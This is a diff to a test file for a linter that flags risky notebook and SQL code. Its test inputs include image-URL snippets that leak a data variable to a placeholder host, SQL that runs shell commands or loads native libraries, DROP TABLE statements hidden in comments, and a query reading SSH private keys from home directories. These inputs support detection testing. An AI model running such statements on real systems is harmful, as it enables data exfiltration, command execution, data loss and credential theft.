@@ -34,8 +34,15 @@ def test_other_text_that_is_written():
 
 SHOWN = {
     "high": ["HTML('<script>x</script>')", "HTML('<img src=x onerror=alert(1)>')",
-             "display({'application/javascript': 'x'}, raw=True)"],
-    "medium": ["HTML('<img src=\"https://example.org/?d=1\">')", "Markdown('![x](https://example.org/x.png)')",
+             "display({'application/javascript': 'x'}, raw=True)",
+             "HTML(f'<img src=\"https://example.org/x.png?d={data}\">')", "HTML(f'<img src=\"//{data}.example.org/x.png\">')",
+             "Markdown('![x](https://example.org/?d=' + data + ')')", "Image(url='https://example.org/?{}'.format(data))",
+             "HTML('<img src=https://example.org/?d=DATA>'.replace('DATA', data))",
+             "class A:\n    def _repr_html_(self):\n        return f'<img src=https://example.org/?d={self.data}>'",
+             "import requests\nr = requests.get(url)\nHTML(r.text)", "HTML(response.text)", "HTML(response.content.decode())",
+             "import httpx\ndisplay(HTML(httpx.get(url).text))"],
+    "medium": ["HTML(f'<img src=\"https://example.org/{name}.png\">')", "HTML('<img src=\"https://example.org/?d=1\">')",
+             "Markdown('![x](https://example.org/x.png)')",
                "Image(url='https://example.org/x.png')"],
 }  # fmt: skip
 
@@ -48,7 +55,7 @@ def test_what_an_output_loads(level, code):
 
 
 def test_outputs_that_load_nothing():
-    quiet = "HTML('<b>x</b>'); HTML('<a href=\"https://example.org\">x</a>'); Markdown('# x'); Image('x.png')"
+    quiet = "HTML(df.to_html()); HTML(x.text); HTML(f'<img src=\"{p}.png?v={v}\">'); HTML('<b>x</b>'); HTML('<a href=\"https://example.org\">x</a>'); Markdown('# x'); Image('x.png')"
     assert "TJ304" not in codes(f"from IPython.display import *\n{quiet}")
     assert "TJ304" in codes("%%html\n<script>x</script>")
     assert "TJ304" not in codes("%%html\n<b>x</b>")
@@ -60,7 +67,12 @@ SQL = {
         "COPY t TO '/home/x/out.csv'",
         "ATTACH '/home/x.db' AS x",
     ],
-    "critical": ["COPY t FROM PROGRAM 'id'", "EXEC xp_cmdshell 'dir'", "SELECT load_extension('./x')"],
+    "critical": [
+        "COPY t FROM PROGRAM 'id'",
+        "CREATE FUNCTION f() RETURNS int AS 'x.so' LANGUAGE C",
+        "EXEC xp_cmdshell 'dir'",
+        "SELECT load_extension('./x')",
+    ],
     "medium": ["SELECT * FROM 'https://example.org/x.parquet'"],
 }
 
@@ -78,10 +90,25 @@ def test_statements_inside():
     )
 
 
+def test_comments_hide_no_statement():
+    for text in (
+        "/* x */ DROP TABLE x",
+        "-- x\\nDROP TABLE x",
+        "select 1; /* a; */ drop table x",
+        "/*! drop table x */",
+    ):
+        assert ("TJ206", "high") in found(f"c.execute('{text}')")
+    assert found("c.execute('-- drop table x\\nselect 1')") == set()
+    assert ("TJ207", "high") in found("c.execute(\"select * from read_text('/home/*/.ssh/id_*')\")")
+
+
 def test_a_table_that_the_code_made_itself_is_less():
     made = "c.execute('CREATE TABLE IF NOT EXISTS mine (a)')\n"
     assert ("TJ206", "medium") in found(made + "c.execute('DROP TABLE IF EXISTS mine;')")
     assert ("TJ206", "high") in found(made + "c.execute('DROP TABLE others')")
+    assert ("TJ206", "medium") in found(
+        "c.execute('create temp table a as select 1')\nc.execute('drop table A')"
+    )
     assert ("TJ206", "high") in found(made + "c.execute('DROP TABLE others; DROP TABLE mine')")
 
 
